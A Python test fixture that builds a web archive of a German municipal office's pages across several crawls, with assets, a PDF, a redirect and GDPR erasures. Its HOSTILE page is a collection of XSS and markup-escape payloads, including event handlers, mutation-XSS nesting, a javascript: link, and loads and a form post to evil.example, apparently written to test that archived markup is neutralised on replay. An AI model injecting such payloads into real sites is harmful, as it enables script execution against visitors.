"""An archive with what the demo lacks: styles, images and fonts, codings, hostile markup, erasures."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from gzip import compress
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import reportlab

from extractors import coding, read
from extractors.heads import fields
from extractors.model import ASSET, Answer, Hints, Outcome, Reading
from storage.archive import Archive
from storage.records import ErasureKind, ErasureOrder, NewCapture, Source
from tests.extractors.pdfs import Program, export
from web.settings import Settings

HOST = "https://amt.example.org"
PAGE = f"{HOST}/amt/seite"
FONT = (Path(reportlab.__file__).parent / "fonts" / "Vera.ttf").read_bytes()
HTML = "text/html; charset=utf-8"


def png(red: int, green: int, blue: int) -> bytes:
    """An image of one colour, 8 by 8."""
    row = b"\0" + bytes((red, green, blue)) * 8

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(row * 8)) + chunk(b"IEND", b"")


@dataclass(frozen=True, kw_only=True)
class Got:
    """One answer; ``text`` false for a style, an image or a font."""

    body: bytes = b""
    kind: str = HTML
    status: int | None = 200
    more: tuple[tuple[str, str], ...] = ()
    location: str | None = None
    asset: bool = False
    document: bool = False
    reading: Reading | None = None


def crawl(archive: Archive, at: datetime, got: Mapping[str, Got]) -> None:
    """One crawl that gets these answers."""
    with_end = crawl_all(archive, [(at, got)])
    archive.end_crawl(with_end, at, True, "finished")


def crawl_all(archive: Archive, looks: Iterable[tuple[datetime, Mapping[str, Got]]]) -> int:
    """One crawl, not ended, that gets these answers at these times; its number."""
    begun = 0
    for at, got in looks:
        begun = (
            begun or archive.start_crawl(Source(name="amt", start=(f"{HOST}/amt/",), scope=(f"{HOST}/amt/",)), at).id
        )
        for uri, each in got.items():
            archive.add_capture(begun, _new(uri, at, each), _reading(uri, each))
    return begun


def _new(uri: str, at: datetime, got: Got) -> NewCapture:
    lines = "".join(f"{name}: {value}\r\n" for name, value in (("Content-Type", got.kind), *got.more))
    return NewCapture(
        uri=uri,
        captured_at=at,
        request=f"GET {uri} HTTP/1.1\r\n\r\n".encode(),
        head=f"HTTP/1.1 {got.status} X\r\n{lines}\r\n".encode() if got.status else b"",
        payload=got.body if got.status else None,
        status=got.status,
        location=got.location,
        is_document=got.document,
    )


def _reading(uri: str, got: Got) -> Reading:
    if got.reading is not None:
        return got.reading
    if got.asset:
        return Reading(outcome=Outcome.OK, rule=ASSET)
    head = _new(uri, datetime(2024, 1, 1, tzinfo=UTC), got).head
    body = coding.decode(got.body, dict(got.more).get("Content-Encoding", ""), 1 << 20).body
    return read.read(Answer(uri=uri, status=got.status or 0, headers=fields(head), body=body), Hints())


def page(words: str, head: str = "", more: str = "") -> bytes:
    """A page with enough text to be one."""
    return (
        f'<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Sprechstunde</title>{head}</head>'
        f"<body><main><h1>Sprechstunde</h1><p>{words}</p><h2>Anfahrt</h2><ul><li>Bus 100</li>"
        f'<li><a href="/amt/plan.pdf#page=2">Der Lageplan</a> zeigt den Weg.</li></ul>{more}</main></body></html>'
    ).encode()


LOOK = (
    '<link rel="stylesheet" href="/css/main.css?v=3" integrity="sha256-x" crossorigin="anonymous">'
    "<style>h1 { background: url(../bild/a.png) }</style>"
)
PICTURES = (
    '<img src="/bild/a.png" alt="Rathaus" width="8"><img srcset="/bild/b.png 1x, /bild/fehlt.png 2x" alt="Saal">'
    '<img src="https://zaehler.example.net/pixel.gif" alt=""><p class="schrift">Wort</p>'
)
GALLERY = "".join(f'<img src="/bild/tag/{number}.png" alt="">' for number in range(120))
STYLE = (
    '@import "more.css"; /* </style> */ body { background: rgb(1, 2, 3) url("/bild/bg.png") }'
    "@font-face { font-family: Vera; src: url(f.ttf) } .schrift { font-family: Vera }"
)
HOSTILE = page(
    "Diese Seite will mehr, als sie darf. Sie versucht es auf vielen Wegen, und keiner davon führt zum Ziel.",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base target="_parent">'
    '<link rel="preload" href="https://evil.example/a.js" as="script"><script>document.title="lief"</script>'
    '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css";'
    'p{background:u\\72l("https://evil.example/c.png")} q{content:"</style><script>document.title=\'lief\'</script>"}</style>',
    '<img src="x" onerror="document.title=\'lief\'"><svg onload="document.title=\'lief\'"><style><img src=x onerror='
    "document.title='lief'></style></svg><math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    "onerror=document.title='lief'&gt;\"><iframe srcdoc='<script>top.document.title=1</script>'></iframe>"
    '<object data="data:text/html,<script>1</script>"></object><embed src="https://evil.example/e.swf">'
    '<a id="js" href="javascript:document.title=1">js</a><a id="data" href="data:text/html,hallo">data</a>'
    '<form action="https://evil.example/send"><input name="q" value="x"><button id="send">los</button></form>'
    '<video src="https://evil.example/v.mp4" autoplay poster="https://evil.example/p.png"></video>'
    '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/big.gif 2x">'
    '<noscript><p title="</noscript><img src=x onerror=document.title=1>">n</p></noscript>',
)


def when(text: str) -> datetime:
    return datetime.fromisoformat(f"{text}Z")


def build(path: Path) -> None:
    """Write the archive."""
    css = {"kind": "text/css", "asset": True}
    image: dict[str, Any] = {"kind": "image/png", "asset": True}
    with Archive.open(path, create=True) as archive:
        packed = Got(body=compress(page("Montag, 9 Uhr, im Rathaus, Zimmer 1.", LOOK, PICTURES), mtime=0), more=(
            ("Content-Encoding", "gzip"), ("Set-Cookie", "a=b"), ("X-Odd", "caf\xe9"), ("ETag", '"x"')))  # fmt: skip
        plan = [
            "Der erste Absatz des Plans bleibt, wie er ist.",
            "\f",
            "Der zweite Absatz nennt den Montag als Tag der Ruhe.",
        ]
        crawl(archive, when("2024-03-01T05:00:00.250"), {
            PAGE: packed,
            f"{HOST}/css/main.css?v=3": Got(body=STYLE.encode(), **css),
            f"{HOST}/css/more.css": Got(body=b"p { color: rgb(4, 5, 6) }", **css),
            f"{HOST}/css/f.ttf": Got(body=FONT, kind="application/octet-stream", asset=True),
            f"{HOST}/bild/bg.png": Got(body=png(9, 9, 9), **image),
            f"{HOST}/bild/a.png": Got(body=png(255, 0, 0), **image),
            f"{HOST}/amt/bild/a.png": Got(body=png(255, 0, 0), **image),
            f"{HOST}/bild/a.svg": Got(body=b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", kind="image/svg+xml", asset=True),
            f"{HOST}/bild/b.js": Got(body=b"alert(1)", kind="text/javascript", asset=True),
            f"{HOST}/amt/plan.pdf": Got(body=export(plan, Program()), kind="application/pdf", document=True),
            f"{HOST}/amt/boese": Got(body=HOSTILE),
            f"{HOST}/amt/galerie": Got(body=page("Bilder vom Tag der offenen Tür.", more=GALLERY)),
            f"{HOST}/amt/weg": Got(body=page("Diese Seite nennt einen Namen, der hier nicht stehen darf.")),
            f"{HOST}/amt/fort": Got(body=page("Die Leitung des Amtes stellt sich vor und nennt ihre Sprechzeiten.")),
        })  # fmt: skip
        crawl(archive, when("2024-03-02T05:00:00"), {PAGE: packed})
        crawl(archive, when("2024-04-01T05:00:00"), {PAGE: Got(status=None)})
        crawl(archive, when("2024-05-01T05:00:00"), {PAGE: Got(body=page("Dienstag, 9 Uhr, im Rathaus, Zimmer 2."))})
        second = [*plan[:2], plan[2].replace("Montag", "Freitag")]
        crawl(archive, when("2025-02-01T05:00:00"), {
            PAGE: Got(body=page("Mittwoch, 9 Uhr, im Rathaus, Zimmer 3.", LOOK, PICTURES)),
            f"{HOST}/css/main.css?v=3": Got(body=b"body { background: rgb(7, 8, 9) }", **css),
            f"{HOST}/bild/b.png": Got(body=png(0, 255, 0), **image),
            f"{HOST}/amt/plan.pdf": Got(body=export(second, Program()), kind="application/pdf", document=True),
        })  # fmt: skip
        moved = Got(status=301, location=f"{HOST}/amt/neu", reading=Reading(outcome=Outcome.MOVED, rule="redirect"))
        crawl(archive, when("2025-03-01T05:00:00"), {PAGE: moved})
        for uri, basis in ((f"{HOST}/amt/weg", "Art. 17 DSGVO"), (f"{HOST}/amt/fort", "Wunsch der Leitung")):
            order = ErasureOrder(
                kind=ErasureKind.URI, subject=uri, by="Archiv", reason="Ein Name", basis=basis, name=uri[-4:] * 8
            )
            archive.erase(order, when("2025-04-01T05:00:00"))


def settings(path: Path) -> Settings:
    """A view of it."""
    return Settings(
        archive=path, zone=ZoneInfo("Europe/Berlin"), now=lambda: when("2025-05-01T05:00:00"), version="test"
    )
